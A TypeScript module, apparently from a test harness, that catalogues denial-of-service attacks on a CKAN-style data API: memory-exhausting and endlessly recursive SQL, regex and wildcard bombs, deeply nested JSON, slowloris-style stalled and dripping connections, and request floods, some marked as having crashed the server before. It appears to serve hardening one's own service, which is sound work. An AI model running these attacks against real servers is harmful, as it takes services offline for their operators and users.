import { connect, type TcpNetConnectOpts } from 'node:net';
import { LARGE, MIDDLE } from './make-data.ts';
import { type Sent, send, type Target } from './send.ts';

/** Does something unfriendly to a server. Resolves to what came of it: a status, or how the connection ended. */
export type Attack = (target: Target) => Promise<string>;

/** Milliseconds after which an attacker gives up: longer than any limit of the server's. */
const PATIENCE = 120_000;

async function ask(target: Target, path: string, sent: Sent = {}): Promise<string> {
  try {
    const { status, bytes, beginning } = await send(target, path, {
      ...sent,
      signal: AbortSignal.timeout(PATIENCE),
    });
    // The server's fault: why, is of interest.
    if (status >= 500 && status !== 503) return `${status} ${beginning}`;
    return `${status} (${bytes > 1e6 ? 'large' : 'small'})`;
  } catch (error) {
    return (error as Error).name === 'TimeoutError' ? 'hung' : 'closed';
  }
}

const posted = (params: object): Sent => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(params),
});

const post =
  (action: string, params: object): Attack =>
  (target) =>
    ask(target, `/api/3/action/${action}`, posted(params));

/** Asks, and leaves before there is an answer. */
const leave =
  (action: string, params: object, milliseconds: number): Attack =>
  async (target) => {
    const signal = AbortSignal.timeout(milliseconds);
    await send(target, `/api/3/action/${action}`, { ...posted(params), signal }).catch(() => null);
    return 'left';
  };

function toSocket({ base, from }: Target): TcpNetConnectOpts {
  const { hostname, port } = new URL(base);
  return { port: Number(port), host: hostname, ...(from && { localAddress: from }) };
}

/** Reads nothing of an answer for a while. */
const stall =
  (path: string, milliseconds: number): Attack =>
  (target) =>
    new Promise((resolve) => {
      const socket = connect(toSocket(target), () => {
        socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`);
        socket.pause();
      });
      const clock = setTimeout(() => socket.destroy(), milliseconds);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearTimeout(clock);
        resolve('stalled');
      });
    });

/** Goes away as soon as an answer begins. */
const breakOff =
  (path: string): Attack =>
  (target) =>
    new Promise((resolve) => {
      const socket = connect(toSocket(target), () => socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`));
      socket.setTimeout(PATIENCE, () => socket.destroy());
      socket.once('data', () => socket.destroy());
      socket.on('error', () => undefined);
      socket.on('close', () => resolve('broken off'));
    });

const drip =
  (milliseconds: number): Attack =>
  (target) =>
    new Promise((resolve) => {
      const socket = connect(toSocket(target), () =>
        socket.write(
          'POST /api/3/action/datastore_search HTTP/1.1\r\nhost: x\r\ncontent-length: 9000000\r\n\r\n',
        ),
      );
      const timer = setInterval(() => socket.write('{'.repeat(1000)), 50);
      const clock = setTimeout(() => socket.destroy(), milliseconds);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(timer);
        clearTimeout(clock);
        resolve('dripped');
      });
    });

const many =
  (count: number, attack: Attack): Attack =>
  async (target) =>
    (await Promise.all(Array.from({ length: count }, () => attack(target))))[0]!;

const pg = (sql: string) => post('datastore_search_sql', { sql });
const duck = (sql: string) => post('datastore_search_sql', { sql, dialect: 'duckdb' });
const t = `"${LARGE}"`;
const m = `"${MIDDLE}"`;
const list = (count: number, item: (i: number) => string, separator = ', ') =>
  Array.from({ length: count }, (_, i) => item(i)).join(separator);

/** Those that took the server down once, by what they do. */
const KNOWN: Readonly<Record<string, Attack>> = {
  'memory in one vector': pg(`SELECT sum(length(lpad(t, 10000000))) FROM ${t}`),
  'a matrix in memory': duck("SELECT damerau_levenshtein(repeat('a', 30000), repeat('b', 30000))"),
  'a text of gigabytes': duck("SELECT repeat('x', 4000000000)"),
  'a text of gigabytes, computed': duck("SELECT length(repeat('x', 4 * 1000 * 1000 * 1000))"),
  'a list of gigabytes': duck('SELECT len(range(1000000000))'),
  'what heeds nothing': duck("SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))"),
  'what heeds nothing, eight times': many(
    8,
    duck("SELECT levenshtein(repeat('a', 900000), repeat('b', 900000))"),
  ),
  'columns, 16000': duck(`SELECT ${list(16_000, () => '1')}`),
  'columns, 100000': duck(`SELECT ${list(100_000, () => '1')}`),
  'columns, 240000': pg(`SELECT ${list(240_000, () => '1')}`),
  'ANDs, 50000': pg(`SELECT 1 WHERE ${list(50_000, () => '1=1', ' AND ')}`),
  'an answer of gigabytes': pg(`SELECT repeat('x', 1000000) AS x FROM ${t} LIMIT 1500`),
  'an answer of gigabytes, more': pg(`SELECT repeat('x', 1000000) AS x FROM ${t} LIMIT 3500`),
  'arrays of millions': many(4, pg('SELECT array_agg(n::text) FROM generate_series(1, 2500000) AS g(n)')),
  'who leaves': many(
    8,
    leave('datastore_search_sql', { sql: `SELECT count(*) FROM ${t} a, ${t} b WHERE a.n + b.n > 5` }, 300),
  ),
  'readers that stand still': many(60, stall(`/datastore/dump/${LARGE}`, 15_000)),
  'readers of nothing but heads': many(20, (target) =>
    ask(target, `/datastore/dump/${MIDDLE}`, { method: 'HEAD' }),
  ),
  'readers that break off': many(20, breakOff(`/datastore/dump/${MIDDLE}?format=json`)),
};

const SIZES = [100_000, 1_000_000, 9_000_000];

/** Variations that nobody has tried. */
const VARIED: Readonly<Record<string, Attack>> = Object.fromEntries<Attack>([
  ...SIZES.flatMap((size): [string, Attack][] => [
    [`pg rpad ${size}`, pg(`SELECT max(length(rpad(t, ${size}, t))) FROM ${t}`)],
    [
      `pg repeat of repeat ${size}`,
      pg(`SELECT length(repeat(repeat(t, 1000), ${size / 1000})) FROM ${t} ORDER BY 1`),
    ],
    [`pg replace ${size}`, pg(`SELECT length(replace(repeat('a', ${size}), 'a', t)) FROM ${m}`)],
    [`pg answer ${size}`, pg(`SELECT t, repeat(t, ${Math.round(size / 100)}) AS x FROM ${t}`)],
    [`pg answer of few ${size}`, pg(`SELECT repeat('é', ${size}) AS x FROM ${t} LIMIT 90`)],
    [`pg reverse ${size}`, pg(`SELECT reverse(lpad('', ${size}, t)) AS x FROM ${t} ORDER BY x LIMIT 5`)],
    [`pg md5 ${size}`, pg(`SELECT md5(repeat(t, ${Math.round(size / 10)})) FROM ${t}`)],
    [`duck repeat ${size}`, duck(`SELECT sum(strlen(repeat(t, ${Math.min(size, 1_000_000)}))) FROM ${t}`)],
    [
      `duck levenshtein ${size}`,
      duck(
        `SELECT max(levenshtein(repeat('a', ${Math.min(size, 1_000_000)}), t || repeat('b', 100000))) FROM ${m}`,
      ),
    ],
    [`duck list ${size}`, duck(`SELECT list_sort(range(${size} * 50))[1]`)],
    [`duck lists of rows ${size}`, duck(`SELECT max(len(range(n, n + ${size}))) FROM ${m}`)],
    [
      `duck aggregate ${size}`,
      duck(`SELECT len(string_agg(repeat(t, ${Math.round(size / 1000)}))) FROM ${t}`),
    ],
    [
      `duck jaccard ${size}`,
      duck(`SELECT sum(jaccard(repeat(t, ${Math.round(size / 10)}), repeat('b', 1000000))) FROM ${m}`),
    ],
    [`duck list text ${size}`, duck(`SELECT list_transform(range(${size}), lambda x: repeat('x', 100))`)],
  ]),
  ...[2, 3, 4].flatMap((depth): [string, Attack][] => [
    [
      `pg cross join ${depth}`,
      pg(`SELECT count(*) FROM ${list(depth, (i) => `${t} t${i}`)} WHERE t0.n + t1.n > 3`),
    ],
    [
      `pg sorted cross join ${depth}`,
      pg(`SELECT * FROM ${list(depth, (i) => `${m} t${i}`)} ORDER BY t0.t || t1.t DESC LIMIT 10`),
    ],
    [
      `pg grouped cross join ${depth}`,
      pg(`SELECT t0.t, t1.t, count(*) FROM ${list(depth, (i) => `${m} t${i}`)} GROUP BY 1, 2 LIMIT 3`),
    ],
    [
      `duck windows ${depth}`,
      duck(
        `SELECT sum(count(*)) OVER (ORDER BY t0.n RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) FROM ${list(depth, (i) => `${m} t${i}`)} GROUP BY t0.n, t1.n`,
      ),
    ],
    [
      `duck unnest ${depth}`,
      duck(`SELECT count(*) FROM ${list(depth, (i) => `(SELECT unnest(range(100000)) AS a${i})`)}`),
    ],
    [
      `abandoned search ${depth}`,
      many(
        6,
        leave(
          'datastore_search',
          { resource_id: LARGE, q: list(depth, (i) => `o${i}`, ' '), sort: 't desc' },
          50 * depth,
        ),
      ),
    ],
  ]),
  ...[200, 1663, 1664, 5_000, 14_000].flatMap((count): [string, Attack][] => [
    [`pg columns ${count}`, pg(`SELECT ${list(count, (i) => `n + ${i} AS c${i}`)} FROM ${t} LIMIT 100`)],
    [`duck columns ${count}`, duck(`SELECT ${list(count, () => 'n')} FROM ${t} LIMIT 100`)],
    [`pg ORs ${count}`, pg(`SELECT count(*) FROM ${t} WHERE ${list(count, (i) => `n = ${i}`, ' OR ')}`)],
    [
      `duck ANDs ${count}`,
      duck(`SELECT count(*) FROM ${t} WHERE ${list(count, (i) => `n <> ${i}`, ' AND ')}`),
    ],
    [`pg IN ${count}`, pg(`SELECT count(*) FROM ${t} WHERE n IN (${list(count, String)})`)],
    [`pg UNIONs ${count}`, pg(list(Math.min(count, 2000), () => `SELECT count(*) FROM ${m}`, ' UNION ALL '))],
    [
      `duck UNIONs ${count}`,
      duck(list(Math.min(count, 2000), () => `SELECT count(*) FROM ${m}`, ' UNION ALL ')),
    ],
    [
      `pg CASE ${count}`,
      pg(`SELECT CASE ${list(count, (i) => `WHEN n = ${i} THEN ${i}`, ' ')} END FROM ${t}`),
    ],
    [`duck concatenation ${count}`, duck(`SELECT ${list(count, () => 't', ' || ')} FROM ${m}`)],
    [
      `filters of ${count} values`,
      post('datastore_search', {
        resource_id: LARGE,
        filters: { n: Array.from({ length: count * 10 }, (_, i) => i) },
      }),
    ],
    [
      `fields ${count}`,
      post('datastore_search', { resource_id: LARGE, fields: list(count, () => 'n', ',') }),
    ],
    [
      `sorts ${count}`,
      post('datastore_search', { resource_id: LARGE, sort: list(count, () => 't desc', ',') }),
    ],
    [
      `q of ${count} words`,
      post('datastore_search', { resource_id: LARGE, q: list(count, (i) => `w${i}`, ' ') }),
    ],
  ]),
  [
    'pg endless recursion',
    pg('WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x'),
  ],
  [
    'duck endless recursion',
    duck('WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x'),
  ],
  [
    'duck growing recursion',
    duck("WITH RECURSIVE x AS (SELECT 'a' AS n UNION ALL SELECT n || n FROM x) SELECT max(strlen(n)) FROM x"),
  ],
  [
    'duck doubling recursion',
    duck('WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT x.n FROM x, range(10)) SELECT count(*) FROM x'),
  ],
  ...[1_000, 30_000].flatMap((count): [string, Attack][] => [
    [`wildcards ${count}`, post('package_search', { q: `notes:${'*a'.repeat(count)}z` })],
    [`wildcards of any field ${count}`, post('package_search', { fq: `${'?*'.repeat(count)}z` })],
    [`terms ${count}`, post('package_search', { fq: list(count, (i) => `a${i}`, ' OR ').slice(0, 90_000) })],
    [`words of datasets ${count}`, post('package_search', { q: 'word '.repeat(count).slice(0, 90_000) })],
    [`parentheses ${count}`, post('package_search', { fq: '('.repeat(count) })],
    [`signs ${count}`, post('package_search', { fq: `${'-'.repeat(count)}a` })],
    [`fields of datasets ${count}`, post('package_search', { fq: `${'a:'.repeat(count)}b` })],
    [`facets ${count}`, post('package_search', { 'facet.field': Array(count - 1).fill('tags') })],
  ]),
  [
    'facets of every object',
    post('package_search', { 'facet.field': ['constructor', 'toString', '__proto__'] }),
  ],
  ['sorts of every object', post('package_search', { sort: 'constructor asc, __proto__ desc' })],
  ['functions of every object', pg('SELECT constructor(1), "__proto__"(1)')],
  ['pg regular expression', pg(`SELECT count(*) FROM ${t} WHERE repeat(t, 100) ~ '(a|b|ab)*(c|d)*x{1,50}$'`)],
  [
    'duck regular expression',
    duck(`SELECT count(*) FROM ${t} WHERE regexp_matches(repeat(t, 1000), '(o.*){12}z')`),
  ],
  ['duck factorials', duck(`SELECT product(n + 1.5) FROM ${t}, range(1000)`)],
  ['duck pivot', duck(`PIVOT ${t} ON n USING count(*)`)],
  ['duck all columns', duck(`SELECT ${list(500, () => 'COLUMNS(*)')} FROM ${t}`)],
  ['duck structs', duck(`SELECT len(list({'a': t, 'b': repeat(t, 100)})) FROM ${t}`)],
  ['duck histogram', duck(`SELECT len(list(DISTINCT t || a.range)) FROM ${t}, range(100) AS a`)],
  ['pg array_agg', pg(`SELECT array_agg(a.t || b.t) FROM ${m} a, ${m} b`)],
  ['pg string_agg', pg(`SELECT length(string_agg(repeat(t, 100), ',')) FROM ${t}`)],
  ['pg distinct', pg(`SELECT DISTINCT a.t || b.t FROM ${m} a, ${m} b`)],
  [
    'pg full text',
    pg(
      `SELECT count(*) FROM ${t} WHERE to_tsvector('english', t) @@ to_tsquery('english', '${list(200, (i) => `w${i}`, ' | ')}')`,
    ),
  ],
  ['longest page', many(6, post('datastore_search', { resource_id: LARGE, limit: 32000 }))],
  [
    'longest page, deep',
    many(6, post('datastore_search', { resource_id: LARGE, limit: 32000, offset: 350_000, sort: 't desc' })),
  ],
  ['longest page by SQL', many(6, pg(`SELECT * FROM ${t} ORDER BY t DESC`))],
  [
    'stalled pages',
    many(30, stall(`/api/3/action/datastore_search?resource_id=${LARGE}&limit=32000`, 12_000)),
  ],
  ['stalled sorted dumps', many(30, stall(`/datastore/dump/${LARGE}?sort=t&format=json`, 12_000))],
  ['stalled xml dumps', many(30, stall(`/datastore/dump/${LARGE}?format=xml`, 12_000))],
  ['many dumps', many(25, (target) => ask(target, `/datastore/dump/${LARGE}`))],
  ['large bodies', many(12, post('datastore_search', { resource_id: LARGE, q: 'x'.repeat(9_000_000) }))],
  [
    'nested JSON',
    (target) =>
      ask(target, '/api/3/action/datastore_search', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '['.repeat(4_000_000),
      }),
  ],
  [
    'a form of many fields',
    (target) =>
      ask(target, '/api/3/action/datastore_search', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: list(300_000, (i) => `a${i}=1`, '&'),
      }),
  ],
  [
    'one field many times',
    (target) =>
      ask(target, '/api/3/action/datastore_search', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: list(300_000, () => 'a=1', '&'),
      }),
  ],
  ['dripping bodies', many(40, drip(12_000))],
  ['many connections', many(300, (target) => ask(target, '/api/3/action/status_show'))],
  ['many searches', many(150, post('datastore_search', { resource_id: MIDDLE, q: 'heron', sort: 't desc' }))],
]);

export const ATTACKS: Readonly<Record<string, Attack>> = { ...KNOWN, ...VARIED };
